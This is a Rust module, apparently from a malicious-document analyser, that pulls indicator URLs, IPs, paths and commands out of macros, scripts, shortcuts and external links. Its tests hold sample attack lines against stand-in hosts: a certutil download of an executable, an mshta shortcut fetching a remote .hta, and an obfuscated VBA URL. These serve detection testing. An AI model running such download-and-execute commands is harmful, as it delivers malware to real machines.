//! Indicators that macros, scripts, shortcuts, links and build projects name: in string literals, in what their
//! expressions come to and in what was decoded. Comments are no source, and neither is prose.

use std::collections::BTreeSet;

use super::{Analyzer, Findings, Look, Sees};
use crate::formats::command_line;
use crate::formats::encoded::{self, Meaning};
use crate::formats::indicators::{self, IndicatorKind, Lists};
use crate::formats::vba::{Event, Module, TokenKind, fold};
use crate::formats::xlm;
use crate::knowledge::IndicatorLists;
use crate::model::{Fact, Family, IocType, Kind};
use crate::text;

/// Its row in the table.
pub(super) const ROW: Analyzer = Analyzer {
    name: "iocs",
    kinds: &[],
    sees: Sees::Content,
    findings: &[],
    run,
};

/// Indicators kept of one module.
const KEPT: usize = 200;

/// Bytes and lines of one script that are looked through.
const LONGEST: usize = 2 << 20;
const LINES: usize = 20_000;

/// Keeps indicators; finds nothing.
fn run(look: &Look<'_>, findings: &mut Findings<'_>) {
    match look.artifact.kind {
        Kind::XlmSource => formulas(look, findings),
        Kind::VbaSource | Kind::VbaPcode => macros(look, findings),
        _ => {
            noted(look, findings);
            lines(look, findings);
        }
    }
}

/// Keeps indicators of what unpackers noted: links, shortcuts, commands.
fn noted(look: &Look<'_>, findings: &mut Findings<'_>) {
    let facts = &look.artifact.facts;
    if facts.is_empty() {
        return;
    }
    let mut collector = Collector {
        lists: &look.knowledge.indicators,
        findings,
        kept: BTreeSet::new(),
    };
    for fact in facts {
        match fact {
            Fact::Shortcut {
                targets, arguments, ..
            } => {
                let target = targets.first().map(String::as_str).unwrap_or_default();
                let program = command_line::program(target);
                collector.collect(target);
                collector.collect(&format!("{program} {arguments}"));
            }
            Fact::External { target, .. } | Fact::BuildImport { target, .. } => {
                collector.keep(target);
            }
            Fact::Dde { command, .. } => collector.collect(command),
            Fact::BuildCommand { line, .. } => {
                for line in line.lines() {
                    collector.collect(line);
                }
            }
            Fact::PdfAction { target, .. } => collector.keep(target),
            _ => {}
        }
    }
}

/// Keeps indicators of scripts, and of texts that were decoded.
fn lines(look: &Look<'_>, findings: &mut Findings<'_>) {
    let artifact = look.artifact;
    let decoded = artifact.via == Some("decoded-text") && artifact.kind == Kind::Text;
    if artifact.kind.family() != Family::Script && !decoded {
        return;
    }
    let data = artifact.data.get(..LONGEST).unwrap_or(&artifact.data);
    let source = text::to_utf8(data);
    let marks: &[&str] = match artifact.kind {
        Kind::Js | Kind::Jse | Kind::Php | Kind::Wsf | Kind::Sct | Kind::Hta => {
            &["//", "* ", "/*", "<!--"]
        }
        Kind::Vbs | Kind::Vbe => &["'", "rem ", "REM ", "Rem "],
        Kind::Bat => &["rem ", "REM ", "@rem ", "::"],
        Kind::Reg | Kind::Inf | Kind::Au3 => &[";"],
        Kind::Lua | Kind::AppleScript => &["--"],
        _ => &["#"],
    };
    let mut collector = Collector {
        lists: &look.knowledge.indicators,
        findings,
        kept: BTreeSet::new(),
    };
    for line in source.lines().take(LINES) {
        let line = line.trim();
        if !marks.iter().any(|mark| line.starts_with(mark)) {
            collector.collect(line.trim_start_matches('@'));
        }
    }
}

/// Keeps indicators of macros.
fn macros(look: &Look<'_>, findings: &mut Findings<'_>) {
    let module = Module::read(&look.artifact.data);
    let mut collector = Collector {
        lists: &look.knowledge.indicators,
        findings,
        kept: BTreeSet::new(),
    };
    for statement in module
        .statements()
        .iter()
        .filter(|one| !one.is_declarative(&module))
    {
        let tokens = module
            .tokens()
            .get(statement.tokens.clone())
            .unwrap_or_default();
        for token in tokens
            .iter()
            .filter(|token| token.kind == TokenKind::Text && token.span().len() > 6)
        {
            collector.collect(&module.literal(token));
        }
    }
    fold(&module, &|_| 0, &mut |event| {
        if let Event::Text { text, .. } = event {
            collector.collect(text.as_str());
        }
    });
}

/// Keeps indicators of Excel 4 macros.
fn formulas(look: &Look<'_>, findings: &mut Findings<'_>) {
    let text = String::from_utf8_lossy(&look.artifact.data);
    let source = xlm::Source::read(&text);
    let mut collector = Collector {
        lists: &look.knowledge.indicators,
        findings,
        kept: BTreeSet::new(),
    };
    for (_, line) in &source.lines {
        let (xlm::Line::Name { formula, .. }
        | xlm::Line::Cell {
            content: formula, ..
        }) = line
        else {
            continue;
        };
        for node in xlm::Formula::read(formula.trim_start_matches('=')).nodes() {
            if let xlm::Node::Text(text) = node {
                collector.collect(text);
            }
        }
    }
    for text in xlm::fold(&source, &|_| false).texts {
        collector.collect(&text);
    }
}

struct Collector<'c, 'f> {
    lists: &'c IndicatorLists,
    findings: &'c mut Findings<'f>,
    kept: BTreeSet<(IocType, String)>,
}

impl Collector<'_, '_> {
    fn collect(&mut self, text: &str) {
        self.keep(text);
        let inner = encoded::whole(text).or_else(|| encoded::within(text));
        if let Some(Meaning::Text(inner)) = inner {
            self.keep(&inner);
        }
    }

    fn keep(&mut self, text: &str) {
        if self.kept.len() >= KEPT {
            return;
        }
        let lists = Lists {
            namespaces: &self.lists.namespaces,
            executable_extensions: &self.lists.executable_extensions,
            commands: &self.lists.commands,
        };
        for found in indicators::find(text, lists) {
            let Some(value) = text.get(found.span) else {
                continue;
            };
            let kind = match found.kind {
                IndicatorKind::Url => IocType::Url,
                IndicatorKind::Ip => IocType::Ip,
                IndicatorKind::Unc => IocType::Unc,
                IndicatorKind::File => IocType::File,
                IndicatorKind::Command => IocType::Command,
            };
            if self.kept.len() < KEPT && self.kept.insert((kind, value.to_owned())) {
                self.findings.ioc(kind, value);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::super::tests as testing;
    use super::*;

    #[test]
    fn indicators_come_from_scripts_shortcuts_and_links() {
        let script = "rem http://comment.invalid/\r\ncertutil -urlcache -f http://example.invalid/a.exe b.exe\r\n";
        let mut shortcut = testing::holding(Kind::Lnk, b"");
        shortcut.facts.push(Fact::Shortcut {
            targets: vec!["C:\\Windows\\System32\\mshta.exe".to_owned()],
            arguments: "http://shortcut.invalid/a.hta".to_owned(),
            minimized: false,
            icon: None,
        });
        let mut document = testing::holding(Kind::Docx, b"");
        document.facts.push(Fact::External {
            at: None,
            role: crate::model::Role::Template,
            target: "https://template.invalid/a.dotm".to_owned(),
        });
        let prose = testing::holding(Kind::Text, b"see http://prose.invalid/");
        let tree = [
            testing::holding(Kind::Bat, script.as_bytes()),
            shortcut,
            document,
            prose,
        ];
        let (_, iocs) = testing::run(run, &tree);
        let urls: Vec<_> = iocs
            .iter()
            .filter(|one| one.r#type == IocType::Url)
            .map(|one| one.value.as_str())
            .collect();
        assert_eq!(
            urls,
            [
                "http://example.invalid/a.exe",
                "http://shortcut.invalid/a.hta",
                "https://template.invalid/a.dotm"
            ]
        );
    }

    #[test]
    fn indicators_come_from_texts_and_what_they_decode_to_not_from_comments() {
        let source = "Attribute VB_Name = \"http://attribute.invalid\"\r\n' http://comment.invalid/\r\nSub a()\r\n\
            x = \"ht\" & \"tp://example.invalid/\" & \"a.bin\"\r\ny = f(\"aHR0cDovL2VuY29kZWQuaW52YWxpZC8=\")\r\n\
            n = \"http://schemas.openxmlformats.org/x\"\r\nEnd Sub";
        let (_, iocs) = testing::run(run, &[testing::holding(Kind::VbaSource, source.as_bytes())]);
        let urls: Vec<_> = iocs
            .iter()
            .filter(|one| one.r#type == IocType::Url)
            .map(|one| one.value.as_str())
            .collect();
        assert_eq!(
            urls,
            ["http://encoded.invalid/", "http://example.invalid/a.bin"]
        );
    }
}
